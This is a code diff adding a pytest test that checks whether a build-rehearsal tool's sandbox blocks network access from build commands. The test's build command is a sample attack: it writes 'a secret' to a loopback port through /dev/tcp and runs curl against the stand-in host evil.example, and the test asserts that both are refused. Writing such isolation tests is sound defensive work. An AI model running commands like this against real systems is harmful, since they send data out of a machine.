@@ -12,6 +12,7 @@ import os
 import re
 import shutil
 import signal
+import socket
 import subprocess
 import sys
 import threading
@@ -26,6 +27,8 @@ from conftest import DEFAULT, ROOT, VARIANTS, need_java
 from rehearsal import failures, leaks, promises
 from rehearsal.aws.execution import Answer
 from rehearsal.databricks.calls import recorded
+from rehearsal.machine import gate
+from rehearsal.machine.network import refusal
 from rehearsing import (
     APPROVED,
     PRODUCTION_SPEC,
@@ -357,6 +360,24 @@ def test_output_that_cannot_be_written_is_said_in_one_line(deploying: Path, tmp_
         result = subprocess.run(command, cwd=ROOT, stdout=output, stderr=subprocess.PIPE, text=True)
     assert result.returncode == 2
     assert result.stderr == f"The output: {os.strerror(errno.ENOSPC)}\n"
+
+
+@pytest.mark.skipif(
+    not gate.works_in_a_child(), reason="this machine lets nobody leave its network"
+)
+def test_a_build_reaches_nothing_of_the_machines_network(deploying: Path) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as listener:  # of another loopback than its own
+        port = listener.getsockname()[1]
+        attack = f"echo a secret >/dev/tcp/127.0.0.1/{port}; curl -s https://evil.example; false"
+        spec = BUILD | {"env": {"shell": "bash"}, "phases": {"build": {"commands": [attack]}}}
+        (deploying / QA_SPEC).write_text(json.dumps(spec))
+        command = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--approve"]
+        result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
+        listener.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    assert "Connection refused" in result.stdout
+    assert f"\n{refusal('evil.example')}\n" in result.stdout
 
 
 def mounts() -> bool:
